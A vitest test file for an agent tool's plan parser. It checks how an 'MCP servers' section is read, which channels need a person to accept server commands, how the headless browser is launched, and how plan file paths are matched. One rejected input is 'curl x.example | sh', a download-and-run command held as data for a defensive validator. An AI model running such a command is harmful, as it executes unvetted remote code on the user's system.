import { describe, expect, test } from 'vitest';
import { CHANNELS } from '../../../../src/core/kernel/phases/channels.ts';
import { refusedServers } from '../../../../src/core/session/commands/judge-gates.ts';
import {
  describeServers,
  planServers,
  serverCommand,
} from '../../../../src/core/session/documents/plan-servers.ts';
import { isNamed, outsidePlanFiles } from '../../../../src/core/session/proof/plan-files.ts';

const planWith = (...lines: string[]) =>
  ['# Plan: boats', '', '## MCP servers', '', ...lines, '', '### Phase 1: sail', '- [ ] step', ''].join('\n');

describe('the section "MCP servers" of a plan', () => {
  test('names ready entries, and gives other servers a command', () => {
    const text = planWith(
      '- browser',
      '* `library-docs`',
      '- tickets: npx -y @acme/tickets-mcp --stdio',
      `- notes: \`node tools/notes.mjs --title "two words" '{"q": 1}'\``,
    );
    expect(planServers(text)).toEqual({
      servers: [
        { name: 'browser' },
        { name: 'library-docs' },
        { name: 'tickets', command: ['npx', '-y', '@acme/tickets-mcp', '--stdio'] },
        { name: 'notes', command: ['node', 'tools/notes.mjs', '--title', 'two words', '{"q": 1}'] },
      ],
      problems: [],
    });
  });

  test('may be missing or empty, and is ignored in a code block', () => {
    const none = { servers: [], problems: [] };
    expect(planServers('# Plan\n\n### Phase 1: a\n- [ ] b\n')).toEqual(none);
    expect(planServers(planWith())).toEqual(none);
    expect(planServers('```\n## MCP servers\n- browser\n```\n')).toEqual(none);
  });

  test.each([
    ['a name without a command that is not a ready entry', '- tickets', 'names "tickets"'],
    ['a ready entry with a command', '- browser: chromium --remote', 'name of a predefined server'],
    ['a command for a shell', '- tickets: curl x.example | sh', 'uses shell syntax'],
    ['a variable', '- tickets: tickets-mcp --token $TOKEN', 'uses shell syntax'],
    ['a setting of the environment', '- tickets: TOKEN=1 tickets-mcp', 'begin its command with a program'],
    ['an address', '- tickets: https://tickets.example/mcp', 'begin its command with a program'],
    ['no command after the colon', '- tickets:', 'begin its command with a program'],
    ['an open quote', '- tickets: tickets-mcp --title "two', 'unclosed quote'],
    ['lookalike letters', '- tickets: npx ticket\u0455-mcp', 'characters that are not ASCII'],
    ['a sentence', 'The agents need a browser.', 'is not of the form'],
    ['a numbered line', '1. browser', 'is not of the form'],
    ['a line with a checkbox', '- [ ] browser', 'is not of the form'],
    ['a capital letter', '- Tickets: tickets-mcp', 'is not of the form'],
    ['a long command', `- tickets: tickets-mcp ${'x'.repeat(300)}`, 'more than 300 characters'],
  ])('%s is a problem', (_what, line, problem) => {
    const { servers, problems } = planServers(planWith(line));
    expect(servers).toEqual([]);
    expect(problems).toEqual([expect.stringContaining(problem)]);
  });

  test('a duplicate name, a second section, and more than eight servers are problems', () => {
    expect(planServers(planWith('- browser', '- browser')).problems).toEqual([
      'Line 2 of the section "MCP servers" repeats a name from above.',
    ]);
    const twice = `${planWith('- browser')}\n## MCP servers\n\n- tickets: tickets-mcp\n`;
    expect(planServers(twice).problems).toEqual(['There is more than one section "MCP servers".']);
    const many = Array.from({ length: 9 }, (_, index) => `- server-${index}: run-it`);
    expect(planServers(planWith(...many)).problems).toEqual(['There are more than 8 MCP servers.']);
  });
});

describe('who may accept the servers of a plan', () => {
  const judge = (channel: (typeof CHANNELS)[number], lines: string[], atStart?: true) =>
    refusedServers(
      { channel, atStart },
      { name: 'plan.md', text: planWith(...lines) },
      { gateChannels: CHANNELS },
    )?.error.code;

  test.each(CHANNELS)('ready entries are accepted with the plan through channel %s', (channel) => {
    expect(judge(channel, ['- browser', '- code-intelligence'])).toBeUndefined();
  });

  test('a command of the plan is accepted only by terminal, phone and page, in no form', () => {
    const accepting = CHANNELS.filter(
      (channel) => judge(channel, ['- browser', '- tickets: tickets-mcp']) === undefined,
    );
    expect(accepting).toEqual(['cli', 'phone', 'web']);
    expect(judge('tool', ['- tickets: tickets-mcp'])).toBe('servers_need_person');
    expect(judge('settings', ['- tickets: tickets-mcp'])).toBe('servers_need_person');
  });

  test('a choice at the start accepts no command, even from a person', () => {
    expect(judge('cli', ['- tickets: tickets-mcp'], true)).toBe('servers_need_person');
    expect(judge('cli', ['- browser'], true)).toBeUndefined();
  });

  test('unreadable servers are never accepted', () => {
    expect(CHANNELS.map((channel) => judge(channel, ['- tickets']))).toEqual(
      CHANNELS.map(() => 'servers_unclear'),
    );
  });
});

describe('starting and showing the servers of a plan', () => {
  test("the browser is headless, writes into the session folder, and uses its own sandbox only outside samocode's", () => {
    const place = { sessionDir: '/s/26-01-08-x', chromium: '/usr/bin/chromium', isConfined: true };
    const command = serverCommand({ name: 'browser' }, place);
    expect(command.slice(0, 3)).toEqual([
      'npx',
      '-y',
      expect.stringMatching(/^@playwright\/mcp@\d+\.\d+\.\d+$/),
    ]);
    expect(command.slice(3)).toEqual([
      ...['--headless', '--isolated', '--no-sandbox', '--executable-path', '/usr/bin/chromium'],
      ...['--output-dir', '/s/26-01-08-x/browser'],
    ]);
    const outside = serverCommand({ name: 'browser' }, { sessionDir: '/s', isConfined: false });
    expect(outside).not.toContain('--no-sandbox');
    expect(outside).not.toContain('--executable-path');
  });

  test('each server has a line, with the whole command if the plan gives one', () => {
    const { servers } = planServers(planWith('- browser', '- tickets: tickets-mcp --title "two words"'));
    expect(describeServers(servers, ['browser'])).toEqual([
      'This plan also starts MCP servers:',
      '- browser: Playwright MCP 0.0.83, a headless Chromium (not started: MCP= has a server of this name)',
      "- tickets: tickets-mcp --title 'two words' (a command of the plan: only a person may accept it)",
    ]);
    expect(describeServers([])).toEqual([]);
  });
});

test.each([
  ['src/a.ts', 'src/a.ts', true],
  ['src/', 'src/deep/a.ts', true],
  ['src', 'src/a.ts', true],
  ['docs/my file.md', 'docs/my file.md', true],
  ['src/*.ts', 'src/a.ts', true],
  ['src/*.ts', 'src/deep/a.ts', false],
  ['src/**', 'src/deep/a.ts', true],
  ['**/*.test.ts', 'a.test.ts', true],
  ['src/a', 'src/ab', false],
  ['a.b', 'axb', false],
  ['.', 'anything', true],
  ['', 'anything', false],
])('the entry "%s" and the path "%s": %s', (entry, path, expected) => {
  expect(isNamed(entry, path)).toBe(expected);
});

test('changed files that no phase names are outside the plan', () => {
  const plan =
    '# Plan: x\n\n### Phase 1: One\nFiles: src/a.ts\n- [ ] it\n\n### Phase 2: Two\nFiles:\n- `tests/`\n- [ ] it\n';
  expect(outsidePlanFiles(plan, ['src/a.ts', 'tests/a.test.ts', 'ci.yml'])).toEqual(['ci.yml']);
});

test('a plan that names no files has none outside it', () => {
  expect(outsidePlanFiles('# Plan: x\n\n### Phase 1: One\n- [ ] it\n', ['a'])).toEqual([]);
});
